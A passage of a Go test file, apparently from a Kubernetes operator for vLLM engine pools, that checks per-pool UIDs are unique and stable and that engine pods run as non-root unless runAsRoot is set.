	seen := map[int64]string{}
	for _, c := range []struct {
		role     kvv1.Role
		ns, name string
	}{{kvv1.RolePrefill, "team-a", "qwen"}, {kvv1.RoleDecode, "team-a", "qwen"}, {kvv1.RolePrefill, "team-b", "qwen"}, {kvv1.RolePrefill, "team-a", "llama"}} {
		u := uid(c.role, c.ns, c.name)
		who := fmt.Sprintf("%s pool %s/%s", c.role, c.ns, c.name)
		if other, ok := seen[u]; ok {
			t.Errorf("%s and %s both run as uid %d", who, other, u)
		}
		seen[u] = who
		if again := uid(c.role, c.ns, c.name); again != u {
			t.Errorf("%s: uid %d, then %d", who, u, again)
		}
	}
}

// Engines of executor Engine (vLLM's own NIXL connector) run non-root too: stock vLLM
// images run as root, and these open the EFA devices themselves. runAsRoot opts out.
func TestEngineExecutorEnginesRunNonRoot(t *testing.T) {
	pol := builder.Policy("nixl").Executor(kvv1.ExecutorEngine).Obj()
	for _, root := range []bool{false, true} {
		p := builder.PrefillPool("p").Image("vllm/vllm-openai:v0.33.0").RunAsRoot(root).Obj()
		w, err := Engines(Input{Role: kvv1.RolePrefill, Name: "p", Namespace: "ns", Spec: &p.Spec.EngineSpec, Policy: &pol.Spec})
		if err != nil {
			t.Fatal(err)
		}
		sc := w.StatefulSet.Spec.Template.Spec.SecurityContext
		nonRoot := sc != nil && sc.RunAsNonRoot != nil && *sc.RunAsNonRoot && sc.RunAsUser != nil && *sc.RunAsUser == EngineUser("ns", "p", kvv1.RolePrefill)
		if nonRoot == root {
			t.Errorf("runAsRoot %v: pod security context %+v", root, sc)
		}
		if home := slices.ContainsFunc(w.StatefulSet.Spec.Template.Spec.Containers[0].Env, func(e corev1.EnvVar) bool { return e.Name == "HOME" }); home == root {
			t.Errorf("runAsRoot %v: HOME set %v", root, home)
		}
	}
}
